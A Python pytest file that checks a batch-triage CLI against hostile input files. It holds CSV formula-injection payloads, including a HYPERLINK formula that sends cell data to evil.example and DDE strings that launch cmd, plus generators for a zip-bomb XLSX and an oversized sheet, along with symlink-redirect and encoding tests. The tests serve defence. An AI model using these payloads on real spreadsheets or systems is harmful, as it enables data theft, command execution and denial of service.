"""Hostile batch files, as a user meets them: formulas a spreadsheet would run (CSV injection),
outputs other users could read or a planted symlink could redirect, a tiny XLSX claiming millions
of rows, and Latin-1 bytes that also "decode" as Shift_JIS. Each test reproduces the attack with
the CLI against the fault server and fails without its fix."""

from __future__ import annotations

import csv
import json
import os
import stat
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from unyo.testing import FaultServer

from .conftest import ENV_PREFIXES, run_cli
from .test_batch import env_for, read_csv, write_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "=cmd|' /C calc'!A0"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBERS = ("-12", "-3.5", "-1,234", "+5")


def answer(summary: str = HYPERLINK, reply: str = "+SUM(1;2)*cmd|' /C calc'!A0") -> dict[str, object]:
    """A triage answer whose text fields carry formulas, as a prompt-injected model writes them."""
    text = json.dumps(
        {"category": "billing", "urgency": 2, "summary": summary, "reply_draft": reply, "confidence": 0.9}
    )
    return {"action": "ok", "text": text}


def formula_csv(path: Path) -> Path:
    rows = [
        ["id", DDE, "text", "amount"],  # the header is input too
        ["r1", "@SUM(1+1)*cmd|' /C calc'!A0", "請求書が二重です", "-12"],
        ["r2", "-1+1", "app crashes", "-3.5"],
        ["r3", "+81 90 1234 5678", "refund please", "-1,234"],
        ["r4", "\t=1+1", "hello", "+5"],
        ["r5", "\r=1+1", "-A1", "-2+3"],
    ]
    with open(path, "w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows)
    return path


def assert_neutral(cells: list[object]) -> None:
    """No text cell starts a formula, except plain numbers; the neutralised ones start with '."""
    for value in cells:
        if isinstance(value, str) and value not in PLAIN_NUMBERS:
            assert not value.startswith(DANGEROUS), value


# --- 1. formulas never reach a spreadsheet ---------------------------------------------------------


def test_formulas_from_the_model_and_the_input_are_neutralised_in_csv_and_xlsx(
    fault: FaultServer, clean_env: Path
) -> None:
    import openpyxl

    formula_csv(clean_env / "in.csv")
    fault.default_action = answer()
    result = run_cli("run", "triage", "--input", "in.csv", "--output", "out.csv", env=env_for(fault))
    assert result.returncode == 0, result.stderr
    with open(clean_env / "out.csv", encoding="utf-8-sig", newline="") as f:
        table = list(csv.reader(f))
    header = table[0]
    assert header[1] == "'" + DDE
    rows = [dict(zip(header, row)) for row in table[1:]]
    assert [r["unyo_status"] for r in rows] == ["ok"] * 5
    assert all(r["summary"] == "'" + HYPERLINK and r["reply_draft"].startswith("'+SUM") for r in rows)
    assert [r["'" + DDE] for r in rows] == [
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'-1+1",
        "'+81 90 1234 5678",
        "'\t=1+1",
        "'\r=1+1",
    ]
    assert [r["amount"] for r in rows] == ["-12", "-3.5", "-1,234", "+5", "'-2+3"]  # plain numbers stay numbers
    assert rows[4]["text"] == "'-A1"
    assert_neutral([c for row in table for c in row])

    result = run_cli("run", "triage", "--input", "in.csv", "--output", "out.xlsx", env=env_for(fault))
    assert result.returncode == 0, result.stderr
    sheet = openpyxl.load_workbook(clean_env / "out.xlsx").active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)  # nothing is stored as a formula
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0][1] == "'" + DDE
    xheader = values[0]
    assert [v[xheader.index("summary")] for v in values[1:]] == ["'" + HYPERLINK] * 5
    assert [v[xheader.index("amount")] for v in values[1:]] == ["-12", "-3.5", "-1,234", "+5", "'-2+3"]
    assert_neutral([c.value for c in cells])

    result = run_cli("run", "triage", "--input", "in.csv", "--output", "out.jsonl", env=env_for(fault))
    assert result.returncode == 0, result.stderr
    lines = [json.loads(x) for x in (clean_env / "out.jsonl").read_text(encoding="utf-8").splitlines()]
    assert lines[0]["summary"] == HYPERLINK and lines[0][DDE].startswith("@SUM")  # JSONL is data, not a sheet: raw


def test_numbers_from_an_xlsx_stay_numbers_and_text_formulas_are_neutralised(
    fault: FaultServer, clean_env: Path
) -> None:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["text", "amount", "note"])
    sheet.append(["invoice twice", -12, "x"])
    sheet.append(["refund", -3.5, "y"])
    sheet["C2"].value, sheet["C2"].data_type = DDE, "s"  # a text cell that reads like a formula (not a formula)
    book.save(clean_env / "in.xlsx")
    fault.default_action = answer()
    for out in ("out.csv", "out.xlsx"):
        result = run_cli("run", "triage", "--input", "in.xlsx", "--output", out, env=env_for(fault))
        assert result.returncode == 0, result.stderr
    rows = read_csv(clean_env / "out.csv")
    assert [r["amount"] for r in rows] == ["-12", "-3.5"] and rows[0]["note"] == "'" + DDE
    values = list(openpyxl.load_workbook(clean_env / "out.xlsx").active.iter_rows(values_only=True))
    assert [v[1] for v in values[1:]] == [-12, -3.5]  # numeric types untouched
    assert values[1][2] == "'" + DDE


# --- 2. outputs are private and never written through a link --------------------------------------


def test_output_is_0600_even_over_an_old_0644_file(fault: FaultServer, clean_env: Path) -> None:
    write_csv(clean_env / "in.csv", ["one", "two"])
    old = clean_env / "out.csv"
    old.write_text("old results\n")
    os.chmod(old, 0o644)
    result = run_cli("run", "triage", "--input", "in.csv", "--output", "out.csv", env=env_for(fault))
    assert result.returncode == 0, result.stderr
    assert stat.S_IMODE(old.stat().st_mode) == 0o600
    assert [r["unyo_status"] for r in read_csv(old)] == ["ok", "ok"]
    assert not [p.name for p in clean_env.iterdir() if ".tmp" in p.name]  # no temporary file left behind


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".jsonl"])
def test_a_symlink_planted_at_the_output_is_replaced_not_followed(
    fault: FaultServer, clean_env: Path, suffix: str
) -> None:
    write_csv(clean_env / "in.csv", ["one"])
    victim = clean_env / "victim.txt"  # e.g. ~/.bashrc, or a file another user can read
    victim.write_text("precious\n")
    os.chmod(victim, 0o644)
    out = clean_env / f"out{suffix}"
    out.symlink_to(victim)
    result = run_cli("run", "triage", "--input", "in.csv", "--output", out.name, env=env_for(fault))
    assert result.returncode == 0, result.stderr
    assert victim.read_text() == "precious\n" and stat.S_IMODE(victim.stat().st_mode) == 0o644
    assert not out.is_symlink() and out.is_file()
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert out.stat().st_size > 0


# --- 3. bounded input ------------------------------------------------------------------------------

_XLSX_PARTS = {
    "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
    "_rels/.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>',
    "xl/workbook.xml": '<?xml version="1.0" encoding="UTF-8"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="s" sheetId="1" r:id="rId1"/></sheets></workbook>',
    "xl/_rels/workbook.xml.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>',
}


def hostile_xlsx(path: Path, last_row: int = 2_000_000, width: str = "B", real_rows: bool = False) -> Path:
    """One header, one data row, then nothing but emptiness down to `last_row`: either a single
    empty row element there (openpyxl fills the gap, and the `dimension` claims the whole range)
    or every empty <row/> element written out. A few KB (or MB) on disk."""

    def cell(ref: str, text: str) -> str:
        return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'

    empties = "".join(f'<row r="{n}"/>' for n in range(3, last_row + 1)) if real_rows else f'<row r="{last_row}"/>'
    sheet = (
        f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<dimension ref="A1:{width}{last_row}"/><sheetData><row r="1">{cell("A1", "id")}{cell("B1", "text")}</row>'
        f'<row r="2">{cell("A2", "r1")}{cell("B2", "請求書が届きません")}</row>{empties}</sheetData></worksheet>'
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in {**_XLSX_PARTS, "xl/worksheets/sheet1.xml": sheet}.items():
            z.writestr(name, text)
    return path


def run_measured(
    fault: FaultServer, *args: str, memory_cap_mb: int = 1500
) -> tuple[subprocess.CompletedProcess[str], int]:
    """`unyo ARGS` in a fresh process with its address space capped (a regression must fail
    the test, not take the machine's memory), and that process's peak RSS in MB."""
    wrapper = (
        "import resource, subprocess, sys\n"
        "cap = int(sys.argv[1]) << 20\n"
        "def limit(): resource.setrlimit(resource.RLIMIT_AS, (cap, cap))\n"
        "p = subprocess.run([sys.executable, '-m', 'unyo', *sys.argv[2:]], preexec_fn=limit, "
        "capture_output=True, text=True)\n"
        "sys.stdout.write(p.stdout); sys.stderr.write(p.stderr)\n"
        "print(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024, file=sys.stderr)\n"
        "sys.exit(p.returncode)\n"
    )
    env = {k: v for k, v in os.environ.items() if not k.startswith(ENV_PREFIXES)}
    env.update(env_for(fault), UNYO_HOME=os.environ["UNYO_HOME"], UNYO_LANG="en")
    done = subprocess.run(
        [sys.executable, "-c", wrapper, str(memory_cap_mb), *args], env=env, capture_output=True, text=True, timeout=120
    )
    *lines, peak = done.stderr.rstrip("\n").split("\n")
    return subprocess.CompletedProcess(done.args, done.returncode, done.stdout, "\n".join(lines)), int(peak)


@pytest.mark.parametrize("shape", ["dimension", "wide-dimension", "row-elements"])
def test_a_small_xlsx_claiming_two_million_rows_stops_at_the_row_limit(
    fault: FaultServer, clean_env: Path, shape: str
) -> None:
    path = hostile_xlsx(
        clean_env / "big.xlsx", width="XFD" if shape == "wide-dimension" else "B", real_rows=shape == "row-elements"
    )
    assert path.stat().st_size < 6_000_000
    result, peak_mb = run_measured(fault, "run", "triage", "--input", "big.xlsx", "--output", "o.csv", "--dry-run")
    assert result.returncode == 2, result.stderr
    assert "more than 100,000 rows" in result.stderr and "--max-rows" in result.stderr and "empty" in result.stderr
    assert peak_mb < 400, peak_mb  # was 1.25 GB ("dimension", "row-elements") and > 20 GB ("wide-dimension")
    assert fault.requests == []


def test_a_zip_bomb_xlsx_is_refused_before_parsing(fault: FaultServer, clean_env: Path) -> None:
    path = hostile_xlsx(clean_env / "bomb.xlsx", last_row=3)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as z, z.open("xl/worksheets/sheet2.xml", "w") as part:
        for _ in range(64):
            part.write(b"<row/>" * 200_000)  # 77 MB of XML in about 75 KB
    assert path.stat().st_size < 200_000
    result = run_cli("run", "triage", "--input", "bomb.xlsx", "--dry-run", env=env_for(fault))
    assert result.returncode == 2 and "zip bomb" in result.stderr and "sheet2.xml" in result.stderr, result.stderr


def test_a_sheet_whose_dimension_is_too_small_loses_no_row(fault: FaultServer, clean_env: Path) -> None:
    hostile_xlsx(clean_env / "in.xlsx", last_row=5, real_rows=True)  # rows 3-5 empty, dimension A1:B5
    with zipfile.ZipFile(clean_env / "in.xlsx") as z:
        parts = {name: z.read(name).decode() for name in z.namelist()}
    extra = "".join(f'<row r="{n}"><c r="B{n}" t="inlineStr"><is><t>row {n}</t></is></c></row>' for n in range(6, 9))
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(
        "</sheetData>", extra + "</sheetData>"
    )
    with zipfile.ZipFile(clean_env / "in.xlsx", "w") as z:
        for name, text in parts.items():
            z.writestr(name, text)
    result = run_cli("run", "triage", "--input", "in.xlsx", "--dry-run", "--json", env=env_for(fault))
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["rows_total"] == 7  # rows 2-8: openpyxl alone stops at the claimed row 5


def test_trailing_empty_rows_are_dropped_without_being_materialised(fault: FaultServer, clean_env: Path) -> None:
    hostile_xlsx(clean_env / "big.xlsx", width="XFD")
    result, peak_mb = run_measured(
        fault,
        "run",
        "triage",
        "--input",
        "big.xlsx",
        "--output",
        "o.csv",
        "--dry-run",
        "--json",
        "--max-rows",
        "2000000",
    )
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["rows_total"] == 1  # the one row with data; 1,999,998 empty rows are not rows
    assert peak_mb < 500, peak_mb


def test_empty_rows_inside_the_data_keep_their_place(fault: FaultServer, clean_env: Path) -> None:
    import openpyxl

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["text"])
    sheet.append(["first"])
    sheet.append([None])
    sheet.append(["third"])
    sheet["A9"].value = None  # formatting-only cells below the data
    sheet["A9"].number_format = "0.00"
    book.save(clean_env / "in.xlsx")
    result = run_cli("run", "triage", "--input", "in.xlsx", "--output", "out.csv", env=env_for(fault))
    assert result.returncode == 8, result.stderr  # the empty row failed
    assert [r["unyo_status"] for r in read_csv(clean_env / "out.csv")] == ["ok", "failed", "ok"]


def test_row_and_cell_limits_apply_to_csv_jsonl_and_xlsx(fault: FaultServer, clean_env: Path) -> None:
    import openpyxl

    write_csv(clean_env / "in.csv", [f"row {i}" for i in range(11)])
    (clean_env / "in.jsonl").write_text(
        "".join(json.dumps({"text": f"row {i}"}) + "\n" for i in range(11)), encoding="utf-8"
    )
    book = openpyxl.Workbook()
    for i in range(11):
        book.active.append([f"row {i}"] if i else ["text"])
    book.active.append(["x" * 101])
    book.save(clean_env / "in.xlsx")
    for name in ("in.csv", "in.jsonl", "in.xlsx"):
        too_many = run_cli("run", "triage", "--input", name, "--max-rows", "10", "--dry-run", env=env_for(fault))
        assert (
            too_many.returncode == 2 and "more than 10 rows" in too_many.stderr and "--max-rows" in too_many.stderr
        ), (name, too_many.stderr)
    assert (
        run_cli("run", "triage", "--input", "in.csv", "--max-rows", "11", "--dry-run", env=env_for(fault)).returncode
        == 0
    )
    write_csv(clean_env / "long.csv", ["short", "y" * 101])
    (clean_env / "long.jsonl").write_text(json.dumps({"text": "z" * 101}) + "\n", encoding="utf-8")
    for name in ("long.csv", "long.jsonl", "in.xlsx"):
        too_long = run_cli("run", "triage", "--input", name, "--max-cell-chars", "100", "--dry-run", env=env_for(fault))
        assert (
            too_long.returncode == 2 and "101 characters" in too_long.stderr and "--max-cell-chars" in too_long.stderr
        ), (name, too_long.stderr)
    assert (
        run_cli(
            "run", "triage", "--input", "long.csv", "--max-cell-chars", "101", "--dry-run", env=env_for(fault)
        ).returncode
        == 0
    )
    assert fault.requests == []


# --- 4. no silent mis-decoding ------------------------------------------------------------------


JAPANESE = ["請求書が二重に届きました。至急ご確認ください", "ログインできません（パスワード再設定済み）",
            "配送はいつですか？", "ｶﾞｲﾄﾞﾌﾞｯｸの件", "東京都千代田区丸の内一丁目　髙橋様", "①　※　○×"]  # fmt: skip


def test_cp932_japanese_is_still_read_without_being_told(fault: FaultServer, clean_env: Path) -> None:
    write_csv(clean_env / "sjis.csv", JAPANESE, encoding="cp932")
    result = run_cli("run", "triage", "--input", "sjis.csv", "--output", "out.csv", env=env_for(fault))
    assert result.returncode == 0, result.stderr
    assert [r["text"] for r in read_csv(clean_env / "out.csv")] == JAPANESE


@pytest.mark.parametrize(
    ("text", "as_cp932"), [("Les étés sont chauds", "騁駸"), ("Herr Müller", None), ("Feliz año nuevo", None)]
)
def test_latin1_is_refused_with_a_sample_and_read_with_encoding(
    fault: FaultServer, clean_env: Path, text: str, as_cp932: str | None
) -> None:
    write_csv(clean_env / "latin.csv", [text, "ok"], encoding="latin-1")
    refused = run_cli("run", "triage", "--input", "latin.csv", "--output", "out.csv", env=env_for(fault))
    assert refused.returncode == 2, refused.stderr
    assert "BadInput" in refused.stderr and "--encoding" in refused.stderr
    assert text in refused.stderr  # the sample as Western European text reads it, so the user sees which one is right
    if as_cp932:
        assert as_cp932 in refused.stderr  # and the sample as CP932 would have read it: 騁駸, not étés
    assert fault.requests == [] and not (clean_env / "out.csv").exists()
    read = run_cli(
        "run", "triage", "--input", "latin.csv", "--output", "out.csv", "--encoding", "latin-1", env=env_for(fault)
    )
    assert read.returncode == 0, read.stderr
    assert [r["text"] for r in read_csv(clean_env / "out.csv")] == [text, "ok"]
    assert any(text in json.dumps(r["body"], ensure_ascii=False) for r in fault.requests)


def test_formulas_behind_spaces_invisible_characters_or_full_width_signs_are_neutralised() -> None:
    from unyo._jobs._batch._files import spreadsheet_safe

    for cell in (" =1+1", "\u3000=1+1", "\xa0=1+1", "\u200b=1+1", "\ufeff=1+1", "\n=1+1", "＝HYPERLINK(\"x\")",
                 "＋SUM(A1)", "＠SUM(A1)", "－1+1"):  # fmt: skip
        assert spreadsheet_safe(cell) == "'" + cell, repr(cell)
    for cell in ("-12", "  plain text", "\u3000お問い合わせ", "請求書 = 2通"):
        assert spreadsheet_safe(cell) == cell, repr(cell)
